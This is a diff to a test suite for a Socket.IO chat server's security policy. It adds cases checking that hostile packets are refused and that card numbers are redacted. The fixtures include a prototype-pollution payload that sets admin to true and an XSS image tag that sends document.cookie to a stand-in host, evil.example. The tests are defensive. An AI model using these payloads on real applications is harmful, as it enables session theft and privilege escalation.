@@ -33,6 +33,17 @@ const refused = abuses({
     ['42/staff,["announce","free beer"]'],
   ],
   "the event that ends older servers (CVE-2024-38355)": ["dialect.syntax", 4522, [event("error", {})]],
+  "a name that reaches the prototype": [
+    "threat.hygiene",
+    4522,
+    ['42["say","attic",{"text":"hello","__proto__":{"admin":true}}]'],
+  ],
+  "a name that stands twice": ["threat.hygiene", 4522, ['42["say","attic",{"text":"hello","text":"x"}]']],
+  "script in a line": [
+    "threat.signature",
+    4522,
+    [event("say", "attic", { text: "<img src=x onerror=fetch('//evil.example/'+document.cookie)>" })],
+  ],
   "a thousand files of one event": ["dialect.limit", 4522, [packet("51000-", "attach", "attic")]],
   "a file that no event announces": ["dialect.syntax", 4522, [Buffer.alloc(10)]],
   "a file with an event that brings none": [
@@ -110,5 +121,15 @@ describe.each(hostNames)("a Socket.IO chat with its policy, through the host `%s
     expect([polling.status, (await chat.seen("handshake")).code]).toEqual([426, "handshake.plain-http"]);
     const url = `${chat.wsUrl}/socket.io/?EIO=4&transport=websocket`;
     expect(await refusedHandshake(chat, url)).toEqual({ code: "identity.missing", status: 401 });
+  });
+
+  it("hides a card number that somebody says: leak.redacted", async () => {
+    const chat = await guardChat(host);
+    const ada = await joinChat(chat, await chat.bearer("ada", member));
+    await ada.emitWithAck("join", "attic");
+    const heard = new Promise((resolve) => ada.once("said", resolve));
+    ada.emit("say", "attic", { text: "mine is 4111 1111 1111 1111, grüße" });
+    expect(await heard).toEqual({ room: "attic", from: "ada", text: "mine is **** **** **** 1111, grüße" });
+    expect(chat.refusals()).toEqual(["leak.redacted"]);
   });
 });
